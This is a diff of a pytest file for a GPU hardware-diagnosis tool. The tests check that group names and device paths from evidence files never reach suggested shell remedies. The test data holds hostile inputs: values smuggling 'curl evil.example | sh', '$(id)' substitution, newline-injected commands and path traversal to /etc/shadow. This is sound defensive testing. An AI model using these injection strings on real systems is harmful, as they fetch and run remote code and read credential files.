@@ -90,8 +90,90 @@ def test_nodes_no_group_opens_say_so() -> None:
         amd_unavailable(), nodes=(NodeAccess("rocm", "/dev/kfd", False, "root", False),)
     )
     denied = found_in(evidence)["host.device_node_denied"]
-    assert denied.remedy is None
-    assert "ls -l /dev/kfd" in (denied.advice or "")
+    assert denied.message == "AMD GPU: /dev/kfd exist but this user may not open them"
+    assert denied.remedy == "ls -l /dev/kfd"
+    assert "no group this user could join opens them" in (denied.advice or "")
+
+
+# Groups a node could belong to on someone else's machine, as an evidence file or a paste
+# may name them: joining `sudo`, `docker` or `disk` is root; a name with shell syntax in it.
+HOSTILE_GROUPS = ("sudo", "docker", "disk", 'render"; curl evil.example | sh; "', "x\nid")
+
+
+@pytest.mark.parametrize("group", HOSTILE_GROUPS)
+def test_only_a_documented_group_goes_into_usermod(group: str) -> None:
+    """ROCm's documented groups are render and video (registry); a node in any other group
+    is named in the message and gets no command to join it."""
+    evidence = placed(
+        amd_unavailable(),
+        nodes=(NodeAccess("rocm", "/dev/kfd", False, group, True),),
+        groups=("alice",),
+    )
+    denied = found_in(evidence)["host.device_node_denied"]
+    assert "usermod" not in (denied.remedy or "")
+    assert denied.remedy == "ls -l /dev/kfd"
+    assert f"only members of {group} may open them" in denied.message
+    assert f"no command joins {group}: not a group" in (denied.advice or "")
+    # next to a documented group, only that one is joined
+    both = placed(
+        amd_unavailable(),
+        nodes=(
+            NodeAccess("rocm", "/dev/kfd", False, group, True),
+            NodeAccess("rocm", "/dev/dri/renderD128", False, "render", True),
+        ),
+        groups=("alice",),
+    )
+    joined = found_in(both)["host.device_node_denied"]
+    assert joined.remedy is not None
+    assert joined.remedy.splitlines()[0] == 'sudo usermod -aG render "$USER"'
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/dev/kfd; curl evil.example | sh",
+        "/dev/../etc/shadow",
+        "/etc/passwd",
+        "/dev/$(id)",
+        "/dev/kfd\nid",
+        "/dev/./kfd",
+        "/dev",
+        "/dev/",
+        "relative/dev/kfd",
+        "/dev/k fd",
+    ],
+)
+def test_only_dev_paths_reach_ls(path: str) -> None:
+    """A node path from an evidence file reaches `ls -l` only when it is a /dev path
+    (letters, digits, `_`, `.`, `-`; no `.` or `..` part), quoted; any other is left out."""
+    evidence = placed(
+        amd_unavailable(),
+        nodes=(
+            NodeAccess("rocm", path, False, "root", False),
+            NodeAccess("rocm", "/dev/dri/renderD128", False, "root", False),
+        ),
+    )
+    denied = found_in(evidence)["host.device_node_denied"]
+    assert denied.remedy == "ls -l /dev/dri/renderD128"
+    alone = placed(amd_unavailable(), nodes=(NodeAccess("rocm", path, False, "root", False),))
+    assert found_in(alone)["host.device_node_denied"].remedy is None
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/dev/kfd",
+        "/dev/dri/renderD128",
+        "/dev/mtgpu.0",
+        "/dev/accel/accel_controlD0",
+        "/dev/vfio/0",
+        "/dev/davinci_manager",
+        "/dev/nvidia-uvm",
+    ],
+)
+def test_real_device_paths_reach_ls(path: str) -> None:
+    evidence = placed(amd_unavailable(), nodes=(NodeAccess("rocm", path, False, "root", False),))
+    assert found_in(evidence)["host.device_node_denied"].remedy == f"ls -l {path}"
 
 
 def test_a_container_started_without_the_gpu_gets_the_flag() -> None:
@@ -190,7 +272,7 @@ def test_mode_000_nodes_are_denied_too(tmp_path: Path) -> None:
     result = run_without_override("detect", "--json", env=world.env(base_env()))
     found = {f["code"]: f for f in result.json()["data"]["findings"]}
     assert "/dev/nvidia0" in found["host.device_node_denied"]["message"]
-    assert found["host.device_node_denied"]["remedy"] is None
+    assert found["host.device_node_denied"]["remedy"] == "ls -l /dev/nvidia0 /dev/nvidiactl"
 
 
 @needs_root
@@ -277,3 +359,35 @@ def test_the_probe_reads_each_device_s_pci_address(tmp_path: Path) -> None:
     result = run_hwdoctor("detect", "--json", env=world.env(base_env()))
     found = {f["code"]: f for f in result.json()["data"]["findings"]}
     assert "cuda:0 = 0000:86:00.0 Tesla V100-PCIE-16GB" in found["devices.order_differs"]["message"]
+
+
+def test_an_evidence_files_groups_and_paths_reach_no_command(tmp_path: Path) -> None:
+    """Through `detect --from`: a recorded evidence file (tests/data/fleet) edited to say
+    its ROCm nodes belong to `sudo` and one is named with shell syntax. The finding names
+    them; the remedy joins no group and lists only the /dev path."""
+    document = json.loads((ROOT / "tests" / "data" / "fleet" / "vm-0.json").read_text())
+    document["host"]["placement"]["nodes"] = [
+        {
+            "backend": "rocm",
+            "path": "/dev/kfd",
+            "openable": False,
+            "group": "sudo",
+            "group_can": True,
+        },
+        {
+            "backend": "rocm",
+            "path": "/dev/dri/renderD128;sh",
+            "openable": False,
+            "group": "docker",
+            "group_can": True,
+        },
+    ]
+    path = tmp_path / "evidence.json"
+    path.write_text(json.dumps(document))
+    result = run_hwdoctor("detect", "--from", str(path), "--json")
+    assert result.returncode == 1, result
+    found = {f["code"]: f for f in result.json()["data"]["findings"]}
+    denied = found["host.device_node_denied"]
+    assert "only members of docker and sudo may open them" in denied["message"]
+    assert denied["remedy"] == "ls -l /dev/kfd"
+    assert "no command joins docker and sudo" in denied["advice"]
